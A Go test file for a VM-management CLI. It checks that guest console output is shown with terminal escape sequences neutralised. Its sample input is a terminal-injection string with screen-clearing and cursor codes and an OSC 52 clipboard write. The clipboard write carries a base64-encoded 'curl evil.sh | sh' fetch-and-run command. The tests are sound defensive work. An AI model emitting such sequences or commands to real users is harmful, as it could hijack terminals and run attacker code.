package main

import (
	"bytes"
	"context"
	"io"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/creack/pty"
	"golang.org/x/sys/unix"

	"banger/internal/api"
	"banger/internal/daemon/daemontest"
	"banger/internal/progress"
)

// hostile is what a guest prints to take over the user's terminal: an OSC 52
// clipboard write (ESC ] 52 ; c ; base64 BEL), cursor movement and screen
// clearing (CSI sequences), a C1 CSI (U+009B) and a bell — between ordinary
// text and UTF-8 that must survive.
const hostile = "boot ok é✓\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\a\x1b[2J\x1b[1;1Hfake prompt\u009b31m\x07 tab\there\n"

// neutral is how hostile must reach a terminal.
const neutral = `boot ok é✓\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07\x1b[2J\x1b[1;1Hfake prompt\u009b31m\x07 tab` + "\there\n"

// onTerminal runs the CLI with stdout and stderr on a pseudo-terminal and
// returns what reached the terminal from each.
func onTerminal(t *testing.T, configPath string, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	read := func() (*os.File, *os.File, *bytes.Buffer, chan struct{}) {
		ptmx, tty, err := pty.Open()
		if err != nil {
			t.Skipf("no pseudo-terminal: %v", err)
		}
		// raw output: the terminal does not turn \n into \r\n
		tio, err := unix.IoctlGetTermios(int(tty.Fd()), unix.TCGETS)
		if err != nil {
			t.Fatal(err)
		}
		tio.Oflag &^= unix.OPOST
		if err := unix.IoctlSetTermios(int(tty.Fd()), unix.TCSETS, tio); err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		done := make(chan struct{})
		go func() { io.Copy(&buf, ptmx); close(done) }()
		return ptmx, tty, &buf, done
	}
	omx, otty, obuf, odone := read()
	emx, etty, ebuf, edone := read()
	code = execute(context.Background(), append([]string{"--config", configPath}, args...), strings.NewReader(""), otty, etty)
	otty.Close()
	etty.Close()
	for _, d := range []chan struct{}{odone, edone} {
		select {
		case <-d:
		case <-time.After(5 * time.Second):
			t.Fatal("terminal output did not end")
		}
	}
	omx.Close()
	emx.Close()
	return code, obuf.String(), ebuf.String()
}

// TestAttackLogsTerminalEscapes: a guest's console holding an OSC 52
// clipboard write and cursor-movement sequences reaches the user's terminal
// through `vm logs` neutralised (each control shown as a visible escape);
// --raw passes the bytes unchanged.
func TestAttackLogsTerminalEscapes(t *testing.T) {
	fake := &daemontest.VMs{LogsFunc: func(_ context.Context, _ string, _ api.LogOptions, w io.Writer) error {
		_, err := io.WriteString(w, hostile)
		return err
	}}
	cfgPath, _ := startDaemonWith(t, fake)
	code, out, errOut := onTerminal(t, cfgPath, "vm", "logs", "x")
	if code != 0 {
		t.Fatalf("vm logs: %d %s", code, errOut)
	}
	if out != neutral {
		t.Errorf("vm logs on a terminal printed %q, want %q", out, neutral)
	}
	code, out, errOut = onTerminal(t, cfgPath, "vm", "logs", "--raw", "x")
	if code != 0 || out != hostile {
		t.Errorf("vm logs --raw = %d %q (%s), want the bytes unchanged", code, out, errOut)
	}
}

// TestAttackFollowTerminalEscapes: operation output lines (a build script's
// or a boot's console, both guest-written) reach the terminal neutralised.
func TestAttackFollowTerminalEscapes(t *testing.T) {
	fake := &daemontest.VMs{CreateFunc: func(_ context.Context, req api.VMCreateRequest, rep progress.Reporter) (api.VM, error) {
		rep.Output(strings.TrimSuffix(hostile, "\n"))
		return api.VM{Name: req.Name}, nil
	}}
	cfgPath, _ := startDaemonWith(t, fake)
	code, _, errOut := onTerminal(t, cfgPath, "vm", "create", "--name", "x")
	if code != 0 {
		t.Fatalf("vm create: %d %s", code, errOut)
	}
	if strings.ContainsAny(errOut, "\x1b\a\u009b") || !strings.Contains(errOut, strings.TrimSuffix(neutral, "\n")) {
		t.Errorf("operation output on a terminal = %q, want it to hold %q", errOut, neutral)
	}
}
